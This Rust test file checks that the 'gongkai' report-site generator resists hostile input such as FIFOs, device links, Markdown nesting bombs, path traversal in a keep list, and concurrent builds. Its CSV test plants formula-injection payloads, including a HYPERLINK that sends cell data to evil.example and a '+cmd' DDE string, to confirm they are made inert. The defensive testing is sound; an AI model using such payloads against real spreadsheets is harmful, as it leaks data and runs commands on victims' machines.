//! Hostile and careless input (issue 20): special files, spreadsheet formulas, two builds at
//! once, refused output folders, files users keep in the output, pathological Markdown,
//! unsafe base URLs, floods of one finding, symlinked folders. Each test failed before its fix.

mod common;

use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

/// Runs gongkai with a deadline: a hang is a failure, not a stuck test run.
fn gongkai_within(dir: &Path, args: &[&str], limit: Duration) -> Output {
    let mut child = Command::new(env!("CARGO_BIN_EXE_gongkai"))
        .args(args)
        .current_dir(dir)
        .env("NO_COLOR", "1")
        .env("LANG", "en_US.UTF-8")
        .env_remove("LC_ALL")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("gongkai starts");
    let start = Instant::now();
    loop {
        if child.try_wait().expect("wait").is_some() {
            return child.wait_with_output().expect("output");
        }
        if start.elapsed() > limit {
            let _ = child.kill();
            panic!("gongkai {args:?} did not finish within {limit:?}");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}

fn mkfifo(path: &Path) {
    let status = Command::new("mkfifo")
        .arg(path)
        .status()
        .expect("mkfifo runs");
    assert!(status.success());
}

#[test]
fn a_fifo_or_a_link_to_a_device_is_refused_not_read() {
    let site = common::example_site();
    let dir = site.path().join("content/pingtan");
    mkfifo(&dir.join("2031.md"));
    std::os::unix::fs::symlink("/dev/zero", dir.join("2030.md")).unwrap();
    let out = gongkai_within(site.path(), &["check"], Duration::from_secs(30));
    let err = common::stderr(&out);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("┌─ content/pingtan/2031.md"), "{err}");
    assert!(
        err.contains("error[not-a-file]: this is not a regular file but a named pipe (FIFO)"),
        "{err}"
    );
    assert!(err.contains("┌─ content/pingtan/2030.md"), "{err}");
    assert!(
        err.contains("error[not-a-file]: this is not a regular file but a device"),
        "{err}"
    );
    // A FIFO in the site's static folder is not a static file: the build does not hang on it.
    std::fs::remove_file(dir.join("2031.md")).unwrap();
    std::fs::remove_file(dir.join("2030.md")).unwrap();
    std::fs::create_dir_all(site.path().join("static")).unwrap();
    mkfifo(&site.path().join("static/pipe.css"));
    let out = gongkai_within(site.path(), &["build"], Duration::from_secs(30));
    assert_eq!(out.status.code(), Some(0), "{}", common::stderr(&out));
    assert!(!site.path().join("public/static/pipe.css").exists());
}

/// Text that starts like a spreadsheet formula reaches no CSV as a formula; numbers,
/// negative ones included, stay numbers.
#[test]
fn csv_text_cannot_run_as_a_spreadsheet_formula() {
    let site = common::example_site();
    let agency = site.path().join("content/pingtan/agency.toml");
    let text = std::fs::read_to_string(&agency).unwrap();
    std::fs::write(
        &agency,
        text.replace(
            "name = \"平潭综合实验区\"",
            "name = \"=HYPERLINK(\\\"https://evil.example/?x=\\\"&A1,\\\"点击\\\")\"",
        ),
    )
    .unwrap();
    let report = site.path().join("content/pingtan/2022.md");
    let text = std::fs::read_to_string(&report).unwrap();
    std::fs::write(
        &report,
        text.replacen(
            "title = \"平潭综合实验区",
            "title = \"@SUM(1+1)平潭综合实验区",
            1,
        ),
    )
    .unwrap();
    let report = site.path().join("content/pingtan/2021.md");
    let text = std::fs::read_to_string(&report).unwrap();
    std::fs::write(
        &report,
        text.replacen("title = \"", "title = \"+cmd|' /C calc'!A0 ", 1),
    )
    .unwrap();
    let out = common::gongkai(site.path(), &["build"]);
    assert_eq!(out.status.code(), Some(0), "{}", common::stderr(&out));
    let data = site.path().join("public/data");
    for file in ["reports.csv", "years/2022.csv", "years/2021.csv"] {
        let csv = std::fs::read_to_string(data.join(file)).unwrap();
        let mut reader = csv::Reader::from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
        let mut rows = 0;
        for rec in reader.records() {
            let rec = rec.unwrap();
            rows += 1;
            for field in rec.iter() {
                let first = field.chars().next();
                let formula = matches!(first, Some('=' | '@' | '\t' | '\r'))
                    || (matches!(first, Some('+' | '-'))
                        && field.len() > 1
                        && field[1..].parse::<f64>().is_err());
                assert!(!formula, "{file}: `{field}` would run as a formula");
            }
        }
        assert!(rows > 0, "{file} has rows");
        assert!(
            csv.contains("'=HYPERLINK("),
            "{file} keeps the text, made inert"
        );
    }
    let csv = std::fs::read_to_string(data.join("reports.csv")).unwrap();
    assert!(csv.contains("'@SUM(1+1)平潭综合实验区"), "title made inert");
    // A negative number (a 2019 本年增/减) is still a number.
    assert!(gongkai::render::data::inert(b"-3").as_ref() == b"-3");
    assert!(gongkai::render::data::inert(b"-").as_ref() == b"-");
    assert!(gongkai::render::data::inert(b"-x").as_ref() == b"'-x");
}

/// Prose nested thousands of levels deep is refused at the line, before the Markdown parser
/// sees it; the deepest nesting a report may use still renders.
#[test]
fn pathological_markdown_nesting_is_refused_at_its_line() {
    let site = common::example_site();
    let report = site.path().join("content/pingtan/2022.md");
    let good = std::fs::read_to_string(&report).unwrap();
    let deep = format!("{good}\n{}\n", ">".repeat(3_900_000));
    std::fs::write(&report, &deep).unwrap();
    let out = gongkai_within(site.path(), &["build"], Duration::from_secs(60));
    let err = common::stderr(&out);
    assert_eq!(out.status.code(), Some(1), "{err}");
    let line = good.lines().count() + 2;
    assert!(err.contains("error[markdown-nesting]"), "{err}");
    assert!(
        err.contains(&format!("content/pingtan/2022.md:{line}:1")),
        "{err}"
    );
    // Lists nested by markers and indentation count too.
    let list: String = (0..40)
        .map(|i| format!("{}- level {i}\n", "  ".repeat(i)))
        .collect();
    std::fs::write(&report, format!("{good}\n{list}")).unwrap();
    let out = gongkai_within(site.path(), &["check"], Duration::from_secs(30));
    assert!(common::stderr(&out).contains("error[markdown-nesting]"));
    // Thirty levels are allowed and rendered.
    let quotes: String = (1..=30)
        .map(|i| format!("{} 第{i}层\n", ">".repeat(i)))
        .collect();
    std::fs::write(&report, format!("{good}\n{quotes}")).unwrap();
    let out = gongkai_within(site.path(), &["build"], Duration::from_secs(30));
    assert_eq!(out.status.code(), Some(0), "{}", common::stderr(&out));
    let page =
        std::fs::read_to_string(site.path().join("public/agencies/pingtan/2022.html")).unwrap();
    assert!(page.contains("第30层"));
}

/// A symlinked agency folder is named, not skipped in silence; a flood of one finding is
/// counted past twenty, on the terminal (JSON keeps every one).
#[test]
fn symlinked_folders_are_named_and_floods_are_counted() {
    let site = common::example_site();
    let elsewhere = tempfile::tempdir().unwrap();
    common::copy_tree(
        &site.path().join("content/pingtan"),
        &elsewhere.path().join("pt"),
    );
    std::os::unix::fs::symlink(
        elsewhere.path().join("pt"),
        site.path().join("content/pt-link"),
    )
    .unwrap();
    for i in 0..500 {
        std::fs::create_dir(site.path().join(format!("content/empty-{i:03}"))).unwrap();
    }
    let out = gongkai_within(site.path(), &["check"], Duration::from_secs(60));
    let err = common::stderr(&out);
    assert_eq!(out.status.code(), Some(1));
    assert!(err.contains("warning[symlink]"), "{err}");
    assert!(err.contains("content/pt-link"), "{err}");
    assert_eq!(
        err.matches("error[missing-agency-file]").count(),
        20,
        "{err}"
    );
    assert!(
        err.contains("… and 480 more findings of the same kind (missing-agency-file)"),
        "{err}"
    );
    assert!(err.len() < 20_000, "{} bytes", err.len());
    let out = common::gongkai(site.path(), &["check", "--format", "json"]);
    let all: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(
        all.iter()
            .filter(|d| d["code"] == "missing-agency-file")
            .count(),
        500
    );
}

/// A refused output folder leaves nothing behind: the next `check` is as before.
#[test]
fn a_refused_output_dir_creates_no_folder() {
    let site = common::example_site();
    let cfg = site.path().join("site.toml");
    let text = std::fs::read_to_string(&cfg).unwrap();
    std::fs::write(
        &cfg,
        text.replace(
            "output_dir = \"public\"",
            "output_dir = \"content/newagency/out\"",
        ),
    )
    .unwrap();
    assert!(
        std::fs::read_to_string(&cfg)
            .unwrap()
            .contains("content/newagency/out")
    );
    let out = common::gongkai(site.path(), &["build"]);
    let err = common::stderr(&out);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(
        err.contains("refusing output_dir = \"content/newagency/out\""),
        "{err}"
    );
    assert!(!site.path().join("content/newagency").exists());
    let out = common::gongkai(site.path(), &["check"]);
    assert_eq!(out.status.code(), Some(0), "{}", common::stderr(&out));
}

/// Two writers of one output folder: the second is refused with the reason, and the first
/// one's output is intact.
#[test]
fn a_second_build_is_refused_while_the_output_is_being_written() {
    let site = common::example_site();
    let out = common::gongkai(site.path(), &["build"]);
    assert_eq!(out.status.code(), Some(0));
    let before = common::snapshot(&site.path().join("public"));
    let public = std::fs::canonicalize(site.path().join("public")).unwrap();
    // Another writer holds the output (as a running build or serve does).
    let held = gongkai::output::OutputLock::acquire(&public).unwrap();
    let out = common::gongkai(site.path(), &["build"]);
    let err = common::stderr(&out);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(
        err.contains("another gongkai (build, serve or watch) is writing"),
        "{err}"
    );
    let zh = common::gongkai_zh(site.path(), &["build"]);
    assert!(common::stderr(&zh).contains("另一个 gongkai（build、serve 或 watch）正在写入"));
    assert_eq!(common::snapshot(&site.path().join("public")), before);
    // Another folder is fine meanwhile; once released, the build goes through.
    let out = common::gongkai(site.path(), &["build", "-o", "other"]);
    assert_eq!(out.status.code(), Some(0), "{}", common::stderr(&out));
    drop(held);
    let out = common::gongkai(site.path(), &["build"]);
    assert_eq!(out.status.code(), Some(0), "{}", common::stderr(&out));
}

/// Files users add to the output for their hosting survive every build; others do not.
#[test]
fn files_users_keep_in_the_output_survive_builds() {
    let site = common::example_site();
    let cfg = site.path().join("site.toml");
    let text = std::fs::read_to_string(&cfg).unwrap();
    std::fs::write(
        &cfg,
        text.replacen("theme =", "keep = [\"baidu_verify_abc.html\"]\ntheme =", 1),
    )
    .unwrap();
    let out = common::gongkai(site.path(), &["build"]);
    assert_eq!(out.status.code(), Some(0), "{}", common::stderr(&out));
    let public = site.path().join("public");
    std::fs::write(public.join("CNAME"), "gknb.example.gov.cn\n").unwrap();
    std::fs::write(public.join(".nojekyll"), "").unwrap();
    std::fs::create_dir_all(public.join(".well-known/acme-challenge")).unwrap();
    std::fs::write(public.join(".well-known/acme-challenge/token"), "t").unwrap();
    std::fs::create_dir_all(public.join(".git")).unwrap();
    std::fs::write(public.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::write(public.join("baidu_verify_abc.html"), "verify").unwrap();
    std::fs::write(public.join("stray.txt"), "not kept").unwrap();
    for _ in 0..2 {
        let out = common::gongkai(site.path(), &["build"]);
        assert_eq!(out.status.code(), Some(0), "{}", common::stderr(&out));
        assert_eq!(
            std::fs::read_to_string(public.join("CNAME")).unwrap(),
            "gknb.example.gov.cn\n"
        );
        assert!(public.join(".nojekyll").is_file());
        assert!(public.join(".well-known/acme-challenge/token").is_file());
        assert!(public.join(".git/HEAD").is_file());
        assert_eq!(
            std::fs::read_to_string(public.join("baidu_verify_abc.html")).unwrap(),
            "verify"
        );
        assert!(!public.join("stray.txt").exists());
        assert!(public.join("index.html").is_file());
    }
    // A name gongkai writes cannot be kept.
    let text = std::fs::read_to_string(&cfg).unwrap();
    std::fs::write(
        &cfg,
        text.replace("\"baidu_verify_abc.html\"", "\"index.html\", \"../x\""),
    )
    .unwrap();
    let out = common::gongkai(site.path(), &["check"]);
    let err = common::stderr(&out);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(
        err.contains("`index.html` in keep cannot be kept: gongkai writes it itself"),
        "{err}"
    );
    assert!(err.contains("`../x` in keep cannot be kept"), "{err}");
}
